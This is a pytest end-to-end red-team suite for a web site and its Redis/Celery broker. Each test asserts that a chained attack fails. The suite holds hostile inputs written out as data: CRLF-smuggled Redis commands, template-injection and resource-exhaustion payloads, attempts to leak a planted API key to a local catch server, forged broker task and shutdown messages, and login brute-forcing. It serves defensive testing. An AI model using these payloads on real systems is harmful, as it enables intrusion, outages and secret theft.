"""The attacks of a red team in a chain, by somebody with rights on targets alone, against a whole site: it ends with
nothing. No byte leaves the allowed origins, no secret is found anywhere, no worker is lost, and work goes on."""

from __future__ import annotations

import json
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import redis

from tests.e2e import test_up
from tests.e2e.red_team import attacker, rows
from tests.e2e.red_team.attacker import Attacker, until_closed
from tests.support.planted import SECRETS, holds
from tests.support.processes import ROOT
from tests.support.servers.recording_target import Answer, RecordingTarget, recording_target
from tests.support.services import reserve_port
from tokenburn_site.local.ports import LOOPBACK, wait_until
from tokenburn_site.local.process_groups import ProcessGroups
from tokenburn_site.local.valkey import answers, find_valkey, valkey_command

BROKER_PASSWORD = "broker-Password-5"
REVERSED = SECRETS["header"][::-1]
RUN_S = 90.0
GROWN_MB = 150.0
BOMBS = (
    "{{ 9**(9**9) }}", "{{ 'x' * 10**9 }}", "{{ range(10**9) | list }}", "{{ ([9**1000] * 4000000) | string }}",
    "{{ '%1000000000d' % 1 }}", "{{ message | center(10**9) }}", "{% for a in range(10**9) %}x{% endfor %}",
    "{{ " + "(" * 900 + "1" + ")" * 900 + " }}", "{{ " + "not " * 5000 + "1 }}", "{{ ''.__class__.__mro__ }}",
    "{{ range(99999) | map('string') | map('upper') | map('lower') | list }}", "{{ 'é' * 4000000 | urlencode }}",
)  # fmt: skip
PEEKS = (
    "{{ secret.api_key | reverse }}", "{{ secret.api_key[::-1] }}", "{{ secret.api_key | length }}",
    "{{ secret.api_key | replace('a', 'b') }}", "{{ 'yes' if 'sk' in secret.api_key else 'no' }}",
    "{{ secret.api_key | list }}", "{{ secret.api_key | upper }}", "{{ secret.api_key.encode() }}",
    "{{ secret | tojson }}", "{{ (secret.api_key | b64encode) | b64encode }}", "{{ (secret.api_key ~ '') | reverse }}",
)  # fmt: skip


@dataclass(frozen=True)
class Site:
    url: str
    var_dir: Path
    broker: int
    ids: dict[str, int]

    def user(self, name: str) -> Attacker:
        found = Attacker(self.url)
        assert found.log_in(name, rows.PASSWORD) == 302
        return found

    def processes(self, word: str) -> dict[int, str]:
        return {pid: line for pid, line in test_up.processes_of(self.var_dir).items() if word in line}


@pytest.fixture
def elsewhere() -> Iterator[RecordingTarget]:
    with recording_target() as found:
        yield found


@pytest.fixture
def honest(elsewhere: RecordingTarget) -> Iterator[RecordingTarget]:
    """Where the secret may go. It sends whoever asks for /away to another server, with all that was sent."""
    with recording_target() as found:
        away = Answer(307, (("Location", f"{elsewhere.url}/taken".encode()),))
        found.answer = lambda asked: away if asked.target.startswith("/away") else Answer()
        yield found


@contextmanager
def broker(family: ProcessGroups, folder: Path, port: int) -> Iterator[str]:
    folder.mkdir()
    url = f"redis://:{BROKER_PASSWORD}@{LOOPBACK}:{port}/0"
    command = [*valkey_command(find_valkey(), port, folder), "--requirepass", BROKER_PASSWORD]
    child = family.start(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    wait_until(lambda: answers(url), "the broker", 30, lambda: child.poll() is None)
    try:
        yield url
    finally:
        family.stop(child)


@pytest.fixture
def site(
    family: ProcessGroups,
    var_dir: Path,
    tmp_path: Path,
    honest: RecordingTarget,
    migrated: Callable[[Path], Path],
    monkeypatch: pytest.MonkeyPatch,
) -> Iterator[Site]:
    migrated(var_dir)
    ports = test_up.Ports(reserve_port(), reserve_port(), reserve_port())
    with broker(family, tmp_path / "broker", ports.valkey) as url:
        plain = test_up.environment
        monkeypatch.setattr(test_up, "environment", lambda folder: plain(folder) | {"REDIS_URL": url})
        with test_up.running_up(ports, var_dir):
            ids = _rows(var_dir, honest.url, f"http://{LOOPBACK}:{ports.mock}")
            yield Site(f"http://{LOOPBACK}:{ports.web}", var_dir, ports.valkey, ids)


def _rows(var_dir: Path, *urls: str) -> dict[str, int]:
    env = test_up.environment(var_dir)
    made = subprocess.run(
        [sys.executable, "-m", "tests.e2e.red_team.rows", *urls],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        check=False,
    )
    assert made.returncode == 0, made.stderr
    found: dict[str, int] = json.loads(made.stdout.splitlines()[-1])
    return found


@pytest.mark.timeout(420)
def test_the_chain_of_attacks_ends_with_nothing(
    site: Site, honest: RecordingTarget, elsewhere: RecordingTarget
) -> None:
    attacker.seen.clear()
    owner, mallory, friend = site.user("owner"), site.user("mallory"), site.user("friend")
    before = {word: site.processes(word) for word in ("worker", "beat", "daphne")}
    assert all(before.values())
    _write_into_the_broker(site, mallory)
    _read_the_secret(site, mallory, elsewhere)
    _send_the_secret_elsewhere(site, friend, elsewhere)
    _stop_the_site(site, mallory)
    _take_what_is_not_ones_own(site, mallory)
    _switch_tasks_off(site, site.user("looker"))
    _forge_messages(site)
    _stay_after_log_out(site)
    _run(owner, site.ids["plan"])
    honest.forget()
    _run(owner, site.ids["secret_plan"])
    assert [seen.values("x-api-key") for seen in honest.requests] == [[SECRETS["header"].encode()]] * 2
    _guess(site, "owner")
    assert {word: site.processes(word) for word in before} == before, "no process was lost or replaced"
    elsewhere.settle()
    assert (elsewhere.requests, elsewhere.broken) == ([], [])
    _find_the_secret_nowhere(site)
    assert owner.api("GET", "health/").json()["ok"] is True


def _write_into_the_broker(site: Site, mallory: Attacker) -> None:
    """CR and LF in every part of a request, to the broker's port."""
    forged = "POST / HTTP/1.1\r\n\r\nAUTH x\r\nSET pwned 1\r\n"
    url = f"http://{LOOPBACK}:{site.broker}"
    step = {"name": "s", "url": "/s"}
    parts: list[dict[str, Any]] = [
        {"request": {"method": forged}},
        {"request": {"path": f"/{forged}"}},
        {"request": {"headers": {forged: "x"}}},
        {"request": {"headers": {"x": forged}}},
        {"request": {"headers": {"x": "{{ params.forged }}"}}},
        {"request": {"path": "/{{ params.forged }}"}},
        {"handshake": {"steps": [step | {"method": forged}]}},
        {"handshake": {"steps": [step | {"headers": {forged: "x"}}]}},
        {"protocol": "websocket", "websocket": {"subprotocols": [forged]}},
        {"protocol": "socketio", "socketio": {"namespace": f"/{forged}"}},
    ]
    for number, overrides in enumerate(parts):
        body = {"name": f"m{number}", "preset": "generic-json", "url": url, "overrides": overrides}
        made = mallory.api("POST", "targets/", body | {"params": {"forged": forged}})
        assert made.status_code == 400 or "params" in json.dumps(overrides), (overrides, made.text)
        if made.status_code == 201:
            probed = mallory.api("POST", f"targets/{made.json()['id']}/probe/", {"message": forged})
            assert probed.status_code == 400 or probed.json()["ok"] is False, probed.text
    with redis.Redis(port=site.broker, password=BROKER_PASSWORD) as client:
        assert not client.exists("pwned")


def _read_the_secret(site: Site, mallory: Attacker, elsewhere: RecordingTarget) -> None:
    """By a changed address, templates, and a target of one's own with another's credential."""
    bank = f"targets/{site.ids['bank']}/"
    for change in (
        {"url": elsewhere.url},
        {"overrides": {"handshake": {"steps": [{"name": "s", "url": f"{elsewhere.url}/s"}]}}},
        {"overrides": {"proxy": {"url": elsewhere.url}}},
        *({"overrides": {"request": {"body": {"message": peek}}}} for peek in PEEKS),
    ):
        assert mallory.api("PATCH", bank, change).status_code == 400, change
    assert mallory.api("POST", f"{bank}probe/", {"message": "Hello"}).status_code in {400, 403}
    own = {"name": "mine", "preset": "generic-json", "url": elsewhere.url, "credential": site.ids["vault"]}
    assert mallory.api("POST", "targets/", own).status_code == 400
    for method in ("GET", "PATCH", "DELETE"):
        assert mallory.api(method, f"credentials/{site.ids['vault']}/", {}).status_code in {403, 404}


def _send_the_secret_elsewhere(site: Site, friend: Attacker, elsewhere: RecordingTarget) -> None:
    """By somebody who may use it: redirects, and addresses that only templates know."""
    bank = f"targets/{site.ids['bank']}/"
    kept = friend.api("GET", bank).json()["overrides"]
    for change in ({"url": elsewhere.url}, {"overrides": {"request": {"headers": {"Host": "{{ secret.api_key }}"}}}}):
        assert friend.api("PATCH", bank, change).status_code == 400, change
    secret = {"x-api-key": "{{ secret.api_key }}"}
    step = {"name": "s", "url": "{{ params.to }}/s", "headers": secret, "save": {"a": "text"}}
    for overrides in (
        {
            "request": {"headers": secret, "path": "/away", "body": {"key": "{{ secret.api_key }}"}},
            "follow_redirects": True,
        },
        {"handshake": {"steps": [step]}, "request": {"headers": secret}},
        {"request": {"headers": secret | {"Host": "{{ params.host }}"}}},
    ):
        params = {"to": elsewhere.url, "host": elsewhere.url.removeprefix("http://")}
        changed = friend.api("PATCH", bank, {"overrides": overrides, "params": params})
        if changed.status_code == 400:
            continue
        for lane in ("reference", "load"):
            probed = friend.api("POST", f"{bank}probe/", {"message": "Hello", "lane": lane})
            assert probed.json()["turns"][0]["error"]["code"] == "secret_withheld", (overrides, probed.text)
    assert friend.api("PATCH", bank, {"overrides": kept, "params": {}}).status_code == 200


def _stop_the_site(site: Site, mallory: Attacker) -> None:
    """Bombs in templates and paths, and files that never end."""
    (web,) = site.processes("daphne")
    before = _resident_mb(web)
    doubling = "|".join(["[@,@]"] * 24) + "|to_string(@)"
    overrides: list[dict[str, Any]] = [
        *({"request": {"body": {"message": bomb}}} for bomb in BOMBS),
        *({"request": {"path": f"/{bomb}"}} for bomb in BOMBS[:4]),
        *({"tls": {name: "/dev/zero"}} for name in ("ca_file", "cert_file")),
        {"response": {"text": doubling}},
        {"response": {"text": "(" * 900 + "a" + ")" * 900}},
    ]
    for number, one in enumerate(overrides):
        body = {"name": f"b{number}", "preset": "generic-json", "url": "https://127.0.0.1:9", "overrides": one}
        made = mallory.api("POST", "targets/", body)
        if made.status_code == 201:
            probed = mallory.api("POST", f"targets/{made.json()['id']}/probe/", {"message": "x"})
            assert probed.status_code == 400 or probed.json()["ok"] is False, probed.text
    for _ in range(20):
        mallory.api(
            "POST", "targets/", {"name": "s", "preset": "openai-chat", "url": "http://h", "secrets": {"k": "é" * 9999}}
        )
    assert _resident_mb(web) - before < GROWN_MB


def _resident_mb(pid: int) -> float:
    return int(Path(f"/proc/{pid}/statm").read_text("ascii").split()[1]) * 4096 / 1e6


def _take_what_is_not_ones_own(site: Site, mallory: Attacker) -> None:
    for path in ("plans/1/", "runs/", "runs/1/", "schedules/", "webhooks/", "scenarios/1/", "workers/"):
        assert mallory.api("GET", path).status_code in {403, 404}, path
    assert mallory.api("POST", "runs/", {"plan": site.ids["plan"]}).status_code == 403
    for path in ("/runs/1/report/", "/runs/1/turns.csv", "/admin/auth/user/", "/admin/runs/run/", "/workers/"):
        assert mallory.get(path).status_code in {302, 403, 404}, path
    with pytest.raises(Exception, match="Handshake status 40"):
        mallory.socket("/ws/runs/1/")


def _switch_tasks_off(site: Site, looker: Attacker) -> None:
    page = "/admin/django_celery_beat/periodictask/"
    assert looker.get(page).status_code == 200
    for action in ("disable_tasks", "run_tasks", "toggle_tasks", "delete_selected"):
        fields = {"action": action, "_selected_action": [str(pk) for pk in range(1, 9)]}
        looker.form(page, fields)
    for pk in range(1, 9):
        looker.form(f"{page}{pk}/change/", {"name": "x", "enabled": ""})
    owner = site.user("owner")
    assert "is_active" not in owner.get(f"{page}?enabled__exact=0").text
    assert owner.get(f"{page}?enabled__exact=0").text.count('name="_selected_action"') == 0


def _forge_messages(site: Site) -> None:
    """Into the broker: without its password, and then with it but without the site's key."""
    message = {
        "body": "W1s1XSwge30sIHt9XQ==", "content-encoding": "utf-8", "content-type": "application/json",
        "headers": {"lang": "py", "task": "runs.tasks.execute_shard", "id": "a", "signature": "0" * 64},
        "properties": {"delivery_tag": "a", "body_encoding": "base64",
                       "delivery_info": {"exchange": "", "routing_key": "load"}},
    }  # fmt: skip
    shutdown: dict[str, Any] = {"method": "shutdown", "arguments": {}, "destination": None}
    with redis.Redis(port=site.broker) as stranger, pytest.raises(redis.AuthenticationError):
        stranger.lpush("load", json.dumps(message))
    with redis.Redis(port=site.broker, password=BROKER_PASSWORD) as client:
        own = next(key.decode() for key in client.scan_iter("tokenburn:*:worker:*"))
        prefix = own.partition("worker:")[0]
        for queue in ("load", "control", "celery"):
            for item in (b"[]", b"{", b"\xff" * 9, json.dumps(message).encode(), json.dumps(shutdown).encode()):
                client.lpush(f"{prefix}{queue}", item)
                client.lpush(queue, item)
        for channel in ("/0.celery.pidbox", f"{prefix}/0.celery.pidbox", "celery.pidbox"):
            assert client.publish(channel, json.dumps(shutdown)) == 0, channel
        client.set(f"{prefix}worker:evil", b'{"queues": 5, "slots": "many"}', ex=5)
        client.xadd(f"{prefix}run:1", {"t": "status", "d": "{"})


def _stay_after_log_out(site: Site) -> None:
    other = site.user("other")
    run = other.api("POST", "runs/", {"plan": site.ids["long_plan"]}).json()["id"]
    socket = other.socket(f"/ws/runs/{run}/")
    site.user("owner").api("POST", f"runs/{run}/stop/", {})
    other.log_out()
    assert until_closed(socket) in {4000, 4403}
    assert other.get(f"/runs/{run}/live/").status_code == 302


def _guess(site: Site, name: str) -> None:
    """57 passwords, and tokens: after the first few even the right one is refused."""
    guesser = Attacker(site.url)
    statuses = [guesser.log_in(name, f"guess {number}") for number in range(57)]
    assert statuses[-1] == 429 and statuses.index(429) <= 20, statuses
    assert guesser.log_in(name, rows.PASSWORD) == 429
    tokens = [guesser.ask("GET", "/api/runs/", headers={"Authorization": f"Token tb_{n:040d}"}) for n in range(60)]
    assert {answer.status_code for answer in tokens[-5:]} <= {401, 403, 429}


def _run(owner: Attacker, plan: int) -> None:
    """The site still does what it is for."""
    run = owner.api("POST", "runs/", {"plan": plan}).json()["id"]
    deadline = time.monotonic() + RUN_S
    while (found := owner.api("GET", f"runs/{run}/").json())["status"] not in {"completed", "failed", "aborted"}:
        assert time.monotonic() < deadline, found
        time.sleep(0.5)
    assert found["status"] == "completed", found


def _find_the_secret_nowhere(site: Site) -> None:
    """In no answer, file, log, row or key of the broker."""
    with redis.Redis(port=site.broker, password=BROKER_PASSWORD) as client:
        stored = [client.dump(key) or b"" for key in client.scan_iter()]
    assert stored and len(attacker.seen) > 200
    files = [path for path in site.var_dir.rglob("*") if path.is_file()]
    assert {"tokenburn.sqlite3", "web.log"} <= {path.name for path in files}
    for place, data in [
        *(("an answer", body) for body in attacker.seen),
        *(("the broker", value) for value in stored),
        *((str(path), path.read_bytes()) for path in files),
    ]:
        assert not holds(data), place
        assert REVERSED.encode() not in data, place
